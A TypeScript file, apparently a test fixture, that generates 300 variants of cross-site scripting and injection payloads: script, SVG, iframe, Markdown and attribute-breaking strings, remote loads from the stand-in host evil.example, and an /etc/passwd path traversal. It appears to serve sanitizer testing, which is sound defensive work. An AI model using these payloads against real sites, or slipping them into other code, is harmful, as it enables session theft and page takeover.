/** Sets a flag of the page, if it ever runs. */
const act = 'window.ran=1';
const far = 'https://evil.example';

/** Texts that have run in pages of others: markup, SVG, Markdown, templates, addresses, and texts that end the place where they stand. */
const kinds = [
  `<script>${act}</script>`,
  `<script src=${far}/x.js></script>`,
  `<img src=x onerror=${act}>`,
  `<img src=${far}/x.png>`,
  `<svg onload=${act}>`,
  `<svg><script>${act}</script></svg>`,
  `<svg><a href="javascript:${act}"><text x=9 y=9>x</text></a></svg>`,
  `<svg><animate onbegin=${act} attributeName=x dur=1s>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${act}</script>"/></foreignObject></svg>`,
  `<svg><use href="${far}/x.svg#a"/></svg>`,
  `<svg><style>@import '${far}/x.css'</style></svg>`,
  `<iframe srcdoc="<script>parent.${act}</script>"></iframe>`,
  `<iframe src="javascript:parent.${act}"></iframe>`,
  `<object data="data:text/html,<script>parent.${act}</script>"></object>`,
  `<embed src="${far}/x">`,
  `<body onload=${act}>`,
  `<details open ontoggle=${act}>x</details>`,
  `<input autofocus onfocus=${act}>`,
  `<video><source onerror=${act}></video>`,
  `<audio src=x onerror=${act}></audio>`,
  `<style>@import '${far}/x.css'; *{background:url(${far}/b)}</style>`,
  `<link rel=stylesheet href=${far}/x.css>`,
  `<meta http-equiv=refresh content="0;url=${far}">`,
  `<base href=${far}/>`,
  `<form action=${far}><button autofocus>x</button></form>`,
  `<math><mtext><img src=x onerror=${act}></mtext></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${act}>">`,
  `<template shadowrootmode=open><img src=x onerror=${act}></template>`,
  `<a href="javascript:${act}" autofocus>x</a>`,
  `javascript:${act}`,
  `data:text/html,<script>${act}</script>`,
  `[x](javascript:${act})`,
  `[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=)`,
  `![x](${far}/x.png)`,
  `![x](javascript:${act})`,
  `[x][y]\n\n[y]: javascript:${act}`,
  `<javascript:${act}>`,
  `[x](<java\tscript:${act}> "t")`,
  '```html\n<script>' + act + '</script>\n```',
  `" onmouseover="${act}" autofocus onfocus="${act}" x="`,
  `' onfocus='${act}' autofocus x='`,
  `--><script>${act}</script>`,
  `]]><script>${act}</script>`,
  `</textarea></title></style></script><script>${act}</script>`,
  `{@html "<img src=x onerror=${act}>"}`,
  `\${${act}}`,
  `&lt;script&gt;${act}&lt;/script&gt;`,
  `&#x6a;avascript:${act}`,
  `../../../etc/passwd%00.svg`,
  `\u202e\u2066<img src=x onerror=${act}>\u2069`,
];

const ways: ((text: string) => string)[] = [
  (text) => text,
  (text) => `"'>${text}`,
  (text) => `- ${text}`,
  (text) => text.replaceAll(/<(\w)/g, (_, letter: string) => `<${letter.toUpperCase()}`),
  (text) => encodeURI(text),
  (text) => text.replaceAll('<', '<\u00ad').replaceAll(' ', '/') + text,
];

/** Three hundred texts, each unlike the others. */
export const hostileTexts = ways.flatMap((way, n) => kinds.map((kind) => `${n} ${way(kind)}`));
